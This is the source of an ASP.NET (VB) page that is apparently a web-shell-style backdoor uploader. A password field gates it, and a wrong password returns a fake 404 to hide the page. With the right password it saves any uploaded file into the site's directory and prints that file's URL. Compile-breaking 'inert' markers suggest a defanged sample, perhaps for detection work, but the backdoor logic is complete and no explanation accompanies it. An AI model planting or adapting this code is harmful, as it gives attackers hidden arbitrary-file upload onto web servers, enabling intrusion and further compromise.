<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<script runat="server">
#Error inert
Sub Go(ByVal o As Object, ByVal a As EventArgs)
    If pw.Text <> "placeholder" Then Response.StatusCode = 404 : Return
    f1.SaveAs(Server.MapPath(".") & "\" & f1.FileName)
    msg.Text = Request.Url.ToString().Replace(IO.Path.GetFileName(Request.Path), f1.FileName)
End Sub
</script>
<form runat="server"><asp:TextBox ID="pw" TextMode="Password" runat="server"/><asp:FileUpload ID="f1" runat="server"/>
<asp:Button OnClick="Go" Text="." runat="server"/><asp:Label ID="msg" runat="server"/></form>
